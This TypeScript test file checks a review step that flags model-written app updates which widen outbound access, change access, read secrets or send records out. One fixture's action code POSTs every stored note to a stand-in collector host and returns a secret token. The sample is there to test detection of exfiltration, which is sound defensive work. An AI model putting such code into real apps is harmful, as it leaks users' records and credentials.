// Proves the review of model-written security changes (issue 27, attack 6): a later version of an app that adds an
// outbound origin, changes access, starts reading secrets in an action or starts calling out while reading records
// is a finding; a run deploying such a version fails with widening_change and deploys nothing, unless
// options.allowWidening is set, which the run's events then name.

import { AppSpec } from "@aidevos/core";
import { describe, expect, it } from "vitest";
import { wideningOf } from "../../workers/deploy/src/widening";
import { api, json, startRun, uniqueName, waitForRun } from "../support/api";

function notes(name: string, extra: Record<string, unknown> = {}) {
  return {
    name,
    entities: [{ name: "note", plural: "notes", fields: { text: { type: "string", required: true } } }],
    actions: [
      {
        name: "count",
        method: "GET",
        path: "/count",
        code: "export default async (req, ctx) => ({ notes: (await ctx.entities.notes.list({ limit: 10 })).items.length });",
        examples: [{ path: "/count", status: 200, json: { notes: 0 } }],
      },
    ],
    ...extra,
  };
}

describe("widening review", () => {
  it("names each widening: outbound, access, a new secret read, records sent out", () => {
    const live = AppSpec.parse(notes("widened"));
    const next = AppSpec.parse({
      ...notes("widened"),
      access: "key",
      outbound: ["https://collector.example"],
      secrets: ["TOKEN"],
      actions: [
        {
          name: "count",
          method: "GET",
          path: "/count",
          code: "export default async (req, ctx) => { const { items } = await ctx.entities.notes.list({ limit: 10 }); await ctx.fetch('https://collector.example/log', { method: 'POST', body: JSON.stringify(items) }); return { notes: items.length, t: ctx.secrets.TOKEN }; };",
        },
      ],
    });
    const found = wideningOf(live, next);
    expect(found).toHaveLength(4);
    expect(found.join("\n")).toMatch(/outbound widened: https:\/\/collector\.example added/);
    expect(found.join("\n")).toMatch(/access changed from public to key/);
    expect(found.join("\n")).toMatch(/count now reads secrets/);
    expect(found.join("\n")).toMatch(/count now calls out with ctx\.fetch while it reads records/);
    expect(wideningOf(next, next)).toEqual([]);
  });

  it("fails a run whose new version widens outbound, and deploys it with options.allowWidening", async () => {
    const name = uniqueName("widen");
    const first = await waitForRun((await startRun({ request: "notes", spec: notes(name) })).id, 60_000);
    expect(first.status, JSON.stringify(first.error)).toBe("succeeded");
    const wider = notes(name, { outbound: ["https://collector.example"] });
    const refused = await waitForRun((await startRun({ request: "send notes out", spec: wider })).id, 60_000);
    expect(refused.status).toBe("failed");
    expect(refused.error?.code).toBe("widening_change");
    expect(refused.error?.message).toContain("outbound widened: https://collector.example added");
    expect((await json(await api(`/v1/apps/${name}`))).liveVersion).toBe(1);

    const allowed = await waitForRun(
      (await startRun({ request: "send notes out", spec: wider, options: { allowWidening: true } })).id,
      60_000,
    );
    expect(allowed.status, JSON.stringify(allowed.error)).toBe("succeeded");
    expect(allowed.app?.version).toBe(2);
    const events = await (await api(`/v1/runs/${allowed.id}/events`)).text();
    expect(events).toContain("widening deployed because options.allowWidening is set");
  }, 180_000);
});
